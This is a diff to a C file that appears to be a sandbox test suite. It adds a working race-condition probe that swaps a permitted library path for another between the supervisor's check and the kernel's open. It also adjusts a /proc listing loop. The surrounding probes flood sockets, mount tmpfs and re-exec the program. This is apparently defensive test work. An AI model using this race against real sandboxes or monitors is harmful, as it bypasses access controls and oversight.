@@ -2,6 +2,7 @@
 #include "attack.h"
 #include <elf.h>
 #include <pthread.h>
+#include <time.h>
 #include <sys/ioctl.h>
 #include <sys/socket.h>
 #include <sys/un.h>
@@ -178,6 +179,50 @@ ATTACK(denial_flood) {
     for (int i = 0; i < 64; i++) for (int j = 0; j < 16; j++) socket(i == 1 ? 2 : i, j, 0);
     return syscall(SYS_mount, "none", ".", "tmpfs", 0, 0) != -1;
 }
+/* The name of an allowed library, which another thread makes that of another one between the look of whoever watches and the
+   kernel's: later and later looks are tried until the kernel opens the other. Where no try comes in time, that is opened as it is. */
+static char flipped[200];
+static char *volatile flipped_end;
+static volatile long flip_after = -1;
+static long now_ns(void) {
+    struct timespec t;
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    return t.tv_sec * 1000000000L + t.tv_nsec;
+}
+static void *flip(void *unused) {
+    for (;;) {
+        while (flip_after < 0);
+        long until = now_ns() + flip_after;
+        while (now_ns() < until);
+        memcpy(flipped_end, "gmp.so.10", 10);
+        flip_after = -1;
+    }
+    return unused;
+}
+ATTACK(open_flipped_library) {
+    static const char *const places[] = {"/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib64"};
+    struct stat wanted, got;
+    int place = 0, won = 0;
+    for (; place < 3; place++) {
+        sprintf(flipped, "%s/libgmp.so.10", places[place]);
+        if (stat(flipped, &wanted) == 0) break;
+    }
+    if (place == 3) return 0;
+    flipped_end = strrchr(flipped, '/') + 4;
+    pthread_t t;
+    pthread_create(&t, 0, flip, 0);
+    for (long after = 300000; after >= 0 && !won; after -= 250) {
+        strcpy(flipped_end, "m.so.6");
+        flip_after = after;
+        int fd = open(flipped, O_RDONLY);
+        while (flip_after >= 0);
+        won = fd >= 0 && fstat(fd, &got) == 0 && got.st_ino == wanted.st_ino && got.st_dev == wanted.st_dev;
+        if (fd >= 0) close(fd);
+    }
+    if (!won) close(open(flipped, O_RDONLY));
+    fprintf(stderr, "the other library was opened %s\n", won ? "in the place of the first" : "by its name");
+    return 1;
+}
 static int again(void) { return execl("/proc/self/exe", "x", "again", (char *)0); }
 ATTACK(own_program_again) { return output_of(again, "AGAIN"); }
 ATTACK(own_loader) {
@@ -219,8 +264,8 @@ ATTACK(appearance) {
         if (n > 0) printf("fd %d %.*s\n", fd, (int)n, target);
     }
     static const char *const names[] = {"uid_map", "gid_map", "setgroups", "limits", "mounts", "status", "cgroup",
-                                        "oom_score_adj", "timerslack_ns", "autogroup", "personality", "comm"};
-    for (int i = 0; i < 11; i++) {
+                                        "oom_score_adj", "timerslack_ns", "autogroup", "personality"};
+    for (int i = 0; i < sizeof names / sizeof *names; i++) {
         sprintf(name, "/proc/self/%s", names[i]);
         show(name);
     }
